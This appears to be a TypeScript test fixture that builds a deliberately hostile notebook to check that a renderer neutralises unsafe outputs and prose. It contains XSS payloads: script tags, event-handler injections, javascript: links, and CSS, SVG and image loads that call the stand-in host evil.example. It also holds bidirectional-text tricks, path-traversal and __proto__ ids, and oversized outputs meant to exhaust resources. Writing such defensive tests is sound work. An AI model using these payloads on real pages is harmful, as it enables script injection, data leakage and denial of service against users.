/** A notebook that means harm: what its outputs and prose try must not reach a reader. */
import { claimed, record, shown, stored } from "./repository.ts";

/** Set in the page by whatever script runs: it never may be. */
export const CANARY = "rederiveCanary";
/** Asked by whatever loads: it never may be. */
export const ELSEWHERE = "https://evil.example";

const RUN = `window.${CANARY}=1;top.${CANARY}=1;parent.${CANARY}=1`;
const SCRIPT = `<script>${RUN}</script><script src="${ELSEWHERE}/a.js"></script>`;
const HANDLERS = `<img src="x" onerror="${RUN}"><svg onload="${RUN}"></svg>` +
  `<details open ontoggle="${RUN}"></details><input autofocus onfocus="${RUN}">`;
const LINKS = `<a href="javascript:${RUN}">a</a><iframe src="javascript:${RUN}"></iframe>` +
  `<form action="${ELSEWHERE}"><button autofocus>b</button></form><base href="${ELSEWHERE}/">` +
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`;
const STYLES = `<style>@import "${ELSEWHERE}/a.css";a[href^="x"]{background:url(${ELSEWHERE}/x)}` +
  `*{position:fixed;inset:0}</style><link rel="stylesheet" href="${ELSEWHERE}/b.css">` +
  `<p style="background:url(${ELSEWHERE}/y);position:fixed;inset:0">cover</p>`;
const LOADS =
  `<img src="${ELSEWHERE}/a.png" srcset="${ELSEWHERE}/b.png 2x"><video poster="${ELSEWHERE}/c">` +
  `</video><object data="${ELSEWHERE}/d"></object><embed src="${ELSEWHERE}/e">`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  onload="${RUN}" width="40" height="40"><script>${RUN}</script><foreignObject><body
  xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject><image
  href="${ELSEWHERE}/a.svg"/><use xlink:href="${ELSEWHERE}/b.svg#a"/><rect width="40" height="40"
  fill="url(${ELSEWHERE}/c.svg#d)"/><style>@import url(${ELSEWHERE}/d.css);</style></svg>`;
const TABLE = `<table><tbody>${
  Array.from({ length: 10_000 }, (_, i) => `<tr><td>${i}</td></tr>`).join("")
}</tbody></table>`;
const PLOT = "application/vnd.plotly.v1+json";
const PIXEL =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const BIDI = "user\u202e \u2066// isAdmin\u2069 \u2066 begin\u2069\u200b\u0000";

const html = (text: unknown) => shown({ "text/html": text, "text/plain": "plain" });

const outputs: unknown[] = [
  ...[SCRIPT, HANDLERS, LINKS, STYLES, LOADS, TABLE, "<b>".repeat(80_000)].map(html),
  html(TABLE.repeat(3)),
  html(`<table><tr><td>x${SCRIPT}<td>y`),
  html(["<p>", "in ", "parts</p>"]),
  shown({
    "text/markdown":
      `# ${SCRIPT}\n[a](javascript:${RUN}) ![b](${ELSEWHERE}/a.png) $\\frac$ ${LINKS}`,
  }),
  shown({ "text/markdown": "| a |\n|--|\n" + "| 1 |\n".repeat(50_000), "text/plain": "long" }),
  shown({ "image/svg+xml": SVG, "text/plain": SCRIPT }),
  shown({ "image/svg+xml": "<svg", "text/plain": "no picture" }),
  shown({ "image/png": "bm8gcGljdHVyZQ==", "text/plain": "garbage picture" }),
  shown({ "image/png": "*not base64*" }),
  shown({ "image/png": PIXEL, [PLOT]: "no object", "text/plain": '">' + SCRIPT }),
  shown({ "image/png": PIXEL, [PLOT]: { data: "no list", layout: [] } }),
  shown({ "image/png": PIXEL, [PLOT]: [1, 2] }),
  shown({
    "image/png": PIXEL,
    "text/plain": "a plot with links",
    [PLOT]: {
      data: [{ y: [1, 2], name: `<a href="javascript:${RUN}">a</a>${SCRIPT}` }],
      layout: {
        title: { text: `<a href="javascript:${RUN}">t</a><img src=x onerror="${RUN}">` },
        images: [{ source: `${ELSEWHERE}/a.png`, x: 0, y: 1, sizex: 1, sizey: 1 }],
      },
    },
  }),
  shown({ "application/json": { deep: [1] } }),
  shown({ "application/javascript": RUN }),
  shown({}),
  { output_type: "stream", name: "stdout", text: "x".repeat(10_000_000) },
  {
    output_type: "stream",
    name: "stdout",
    text: BIDI + "\u001b]8;;javascript:x\u0007link\u001b]8;;\u0007",
  },
  { output_type: "stream", name: "stderr", text: `${SCRIPT}\n`.repeat(100_000) },
  { output_type: "error", ename: SCRIPT, evalue: BIDI, traceback: [SCRIPT] },
];

const good = record({ says: `four is four ${SCRIPT} [a](javascript:${RUN}) ${BIDI} $\\frac$` });
const other = record({ id: "five-is-five", says: "five" });

/** Accepted, as a person might who did not look. */
export const ACCEPTED = [good, other];

const records: unknown[] = [
  ...[null, 5, "record", [], {}, true],
  ...["schema", "note", "id", "says", "at", "conditions", "asStated", "control", "rev", "verdict"]
    .flatMap((
      key,
    ) => [{ ...other, [key]: undefined }, { ...other, [key]: 7 }, { ...other, [key]: [{}] }]),
  ...["../../../up", "a/b", "", "__proto__", `">${SCRIPT}`].map((id) => ({ ...other, id })),
  { ...other, verdict: "confirmed refined" },
  { ...other, asStated: { ...other.asStated, pass: 1, at: 5, against: SCRIPT } },
  good,
];

export const HOSTILE = stored(
  {
    prose: `# Numbers ${SCRIPT} ${BIDI}\n\n**The gist.** ${SCRIPT} [a](javascript:${RUN}) ${BIDI}`,
  },
  { prose: `## main\n\n## ledger\n\n## ledger\n\n${HANDLERS}\n\n${STYLES}\n\n<!-- ${SCRIPT}` },
  { prose: `![a](${ELSEWHERE}/a.png) <${ELSEWHERE}/> [b]: javascript:${RUN}\n\n[b] $\\unknown{` },
  { prose: "> ".repeat(5000) + "deep\n\n" + "*".repeat(20_000) + "\n\n" + "[".repeat(20_000) },
  {
    source: `// ${SCRIPT} ${BIDI}\nconst four: number = 4; // </script></code></pre>${HANDLERS}`,
    outputs,
  },
  { source: "const five = 5", outputs: records.map(claimed) },
  { source: "import { gone } from './gone.ts'; gone();" },
);
